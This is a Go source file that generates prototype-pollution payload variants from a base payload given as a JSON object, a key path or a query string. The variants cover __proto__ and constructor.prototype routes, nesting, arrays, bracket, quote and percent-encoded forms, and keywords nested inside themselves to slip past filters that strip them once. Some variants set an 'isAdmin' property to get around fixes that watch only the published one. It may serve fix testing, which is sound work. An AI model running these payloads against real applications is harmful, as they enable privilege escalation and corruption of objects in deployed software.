package variant

import (
	"errors"
	"net/url"
	"strings"
)

var errNoPrototype = errors.New("it reaches no prototype: neither __proto__ nor constructor.prototype is in it")

// object is a JSON object.
type object = map[string]any

// renamed is the property that a variant sets in place of the published one, for fixes that know only that one.
const renamed = "isAdmin"

// toPrototype finds the way to the prototype in an object and returns what is to be put there.
func toPrototype(value any) (loot any, found bool) {
	switch v := value.(type) {
	case object:
		if loot, ok := v["__proto__"]; ok {
			return loot, true
		}
		if c, ok := v["constructor"].(object); ok {
			if loot, ok := c["prototype"]; ok {
				return loot, true
			}
		}
		for _, member := range v {
			if loot, ok := toPrototype(member); ok {
				return loot, true
			}
		}
	case []any:
		for _, member := range v {
			if loot, ok := toPrototype(member); ok {
				return loot, true
			}
		}
	}
	return nil, false
}

// The keys inside themselves, for filters that take them out once.
const (
	nestedProto       = "__pro__proto__to__"
	nestedConstructor = "constconstructorructor"
)

// objects varies the way to the prototype, what lies around it, what is put there, and the kind of object that holds it.
// A kit reads {"$null": x} as x without a prototype, {"$own": x} as x built from an object literal with computed keys,
// and {"$class": x} as x's members on an instance of a class.
func objects(base any, _ map[string]string) ([]made, error) {
	loot, ok := toPrototype(base)
	if !ok {
		return nil, errNoPrototype
	}
	proto := func(loot any) object { return object{"__proto__": loot} }
	constructor := func(loot any) object { return object{"constructor": object{"prototype": loot}} }
	nested := func(v any) object { return object{"inner": v} }
	return []made{
		{"proto", "by __proto__", proto(loot)},
		{"constructor", "by constructor.prototype", constructor(loot)},
		{"nested-proto", "by __proto__, one level down", nested(proto(loot))},
		{"nested-constructor", "by constructor.prototype, one level down", nested(constructor(loot))},
		{"renamed", "another property, by __proto__", proto(object{renamed: true})},
		{"renamed-constructor", "another property, by constructor.prototype", constructor(object{renamed: true})},
		{"renamed-nested", "another property, by __proto__, one level down", nested(proto(object{renamed: true}))},
		{"object-value", "an object as the property", proto(object{"polluted": object{"deep": "yes"}})},
		{"beside", "after harmless keys", object{"A": 1, "B": object{"c": "x"}, "__proto__": loot}}, // keys are written in order
		{"deep", "three levels down", nested(nested(nested(proto(loot))))},
		{"deep-constructor", "by constructor.prototype, three levels down", nested(nested(nested(constructor(loot))))},
		{"in-array", "in an array", []any{proto(loot)}},
		{"in-nested-array", "in an array, one level down", nested([]any{proto(loot)})},
		{"function", "the prototype of functions, by constructor.__proto__", object{"constructor": object{"__proto__": loot}}},
		{"nested-word", "the key inside itself, for a filter that takes it out once", object{nestedProto: loot}},
		{"nested-word-constructor", "constructor inside itself, for a filter that takes it out once", object{nestedConstructor: object{"prototype": loot}}},
		{"null-source", "a source without a prototype", object{"$null": proto(loot)}},
		{"null-source-constructor", "a source without a prototype, by constructor.prototype", object{"$null": constructor(loot)}},
		{"literal-source", "a source from an object literal", object{"$own": proto(loot)}},
		{"class-source", "a source that is an instance of a class", object{"$class": constructor(loot)}},
	}, nil
}

// split takes a path of keys apart: what comes before the prototype, and the property after it.
func split(path []string) (before []string, property string, err error) {
	for i, key := range path {
		switch {
		case key == "__proto__" && i+2 == len(path):
			return path[:i], path[i+1], nil
		case key == "constructor" && i+3 == len(path) && path[i+1] == "prototype":
			return path[:i], path[i+2], nil
		}
	}
	return nil, "", errNoPrototype
}

// keys varies a path of keys as text and as a list.
func keys(base any, hint map[string]string) ([]made, error) {
	separator := hint["separator"]
	if separator == "" {
		separator = "."
	}
	if list, ok := base.([]any); ok {
		path := make([]string, len(list))
		for i, key := range list {
			if inner, ok := key.([]any); ok && len(inner) == 1 {
				key = inner[0] // a list that reads as its only key
			}
			path[i], _ = key.(string)
		}
		before, property, err := split(path)
		if err != nil {
			return nil, err
		}
		return append(keyLists(before, property), keyTexts(before, property, separator)...), nil
	}
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	plain := strings.NewReplacer("[", separator, "]", "", `"`, "", "'", "").Replace(s)
	before, property, err := split(strings.Split(strings.TrimPrefix(plain, separator), separator))
	if err != nil {
		return nil, err
	}
	return append(keyTexts(before, property, separator), keyLists(before, property)...), nil
}

func keyTexts(before []string, property, separator string) []made {
	path := func(keys ...string) string {
		return strings.Join(append(append([]string{}, before...), keys...), separator)
	}
	head := strings.Join(before, separator)
	dot := ""
	if head != "" {
		dot = separator
	}
	return []made{
		{"proto", "by __proto__", path("__proto__", property)},
		{"constructor", "by constructor.prototype", path("constructor", "prototype", property)},
		{"nested-proto", "by __proto__, one level down", path("inner", "__proto__", property)},
		{"nested-constructor", "by constructor.prototype, one level down", path("inner", "constructor", "prototype", property)},
		{"renamed", "another property, by __proto__", path("__proto__", renamed)},
		{"renamed-constructor", "another property, by constructor.prototype", path("constructor", "prototype", renamed)},
		{"deeper", "a key below the property", path("__proto__", property, "deep")},
		{"brackets", "in brackets", head + "[__proto__][" + property + "]"},
		{"last-in-brackets", "the property in brackets", path("__proto__") + "[" + property + "]"},
		{"first-in-brackets", "the prototype in brackets", head + "[__proto__]" + separator + property},
		{"double-quoted", "in quoted brackets", head + `["__proto__"]["` + property + `"]`},
		{"single-quoted", "in single-quoted brackets", head + `['__proto__'].` + property},
		{"quoted-constructor", "constructor.prototype in quoted brackets", head + `["constructor"]["prototype"]["` + property + `"]`},
		{"leading", "after a leading separator", separator + path("__proto__", property)},
		{"doubled", "with the separator doubled", head + dot + "__proto__" + separator + separator + property},
		{"spaced", "with spaces around the key", path(" __proto__ ", property)},
		{"nested-word", "the key inside itself, for a filter that takes it out once", path(nestedProto, property)},
		{"nested-word-constructor", "constructor inside itself, for a filter that takes it out once", path(nestedConstructor, "prototype", property)},
		{"function", "the prototype of functions, by constructor.__proto__", path("constructor", "__proto__", property)},
		{"through-array", "through an element of a list", path("list", "0", "__proto__", property)},
	}
}

func keyLists(before []string, property string) []made {
	path := func(keys ...any) []any {
		list := make([]any, 0, len(before)+len(keys))
		for _, key := range before {
			list = append(list, key)
		}
		return append(list, keys...)
	}
	boxed := func(key string) object { return object{"$boxed": key} }
	return []made{
		{"list", "a list of keys", path("__proto__", property)},
		{"list-constructor", "a list of keys, by constructor.prototype", path("constructor", "prototype", property)},
		{"list-nested", "a list of keys, one level down", path("inner", "__proto__", property)},
		{"list-renamed", "a list of keys, another property", path("__proto__", renamed)},
		{"list-in-list", "the key itself as a list", path([]any{"__proto__"}, property)},
		{"list-in-list-constructor", "constructor and prototype as lists", path([]any{"constructor"}, []any{"prototype"}, property)},
		{"list-boxed", "the key as an object", path(boxed("__proto__"), property)},
		{"list-nested-word", "a list with the key inside itself", path(nestedProto, property)},
		{"list-function", "the prototype of functions, by constructor.__proto__", path("constructor", "__proto__", property)},
	}
}

// queries varies a query string such as __proto__[polluted]=yes.
func queries(base any, _ map[string]string) ([]made, error) {
	s, err := text(base)
	if err != nil {
		return nil, err
	}
	s = strings.TrimPrefix(s, "?")
	whole, value, _ := strings.Cut(s, "=")
	whole, err = url.QueryUnescape(whole)
	if err != nil {
		return nil, err
	}
	path := strings.FieldsFunc(whole, func(r rune) bool { return strings.ContainsRune("[].", r) })
	before, property, err := split(path)
	if err != nil {
		return nil, err
	}
	name := func(keys ...string) string {
		all := append(append([]string{}, before...), keys...)
		return all[0] + "[" + strings.Join(all[1:], "][") + "]"
	}
	set := func(keys ...string) string { return name(keys...) + "=" + value }
	return []made{
		{"proto", "by __proto__", set("__proto__", property)},
		{"constructor", "by constructor.prototype", set("constructor", "prototype", property)},
		{"nested-proto", "by __proto__, one level down", set("inner", "__proto__", property)},
		{"nested-constructor", "by constructor.prototype, one level down", set("inner", "constructor", "prototype", property)},
		{"renamed", "another property", set("__proto__", renamed)},
		{"nested-word", "the key inside itself, for a filter that takes it out once", set(nestedProto, property)},
		{"encoded", "percent-encoded", strings.ReplaceAll(set("__proto__", property), "__proto__", "%5F%5Fproto%5F%5F")},
		{"encoded-brackets", "with percent-encoded brackets", url.QueryEscape(name("__proto__", property)) + "=" + value},
		{"all-in-brackets", "every key in brackets", "[__proto__][" + property + "]=" + value},
		{"dotted", "with dots", strings.Join(append(append([]string{}, before...), "__proto__", property), ".") + "=" + value},
		{"beside", "after harmless keys", "a=1&b[c]=2&" + set("__proto__", property)},
		{"after-question-mark", "after a question mark", "?" + set("__proto__", property)},
		{"deeper", "a key below the property", set("__proto__", property, "deep")},
	}, nil
}
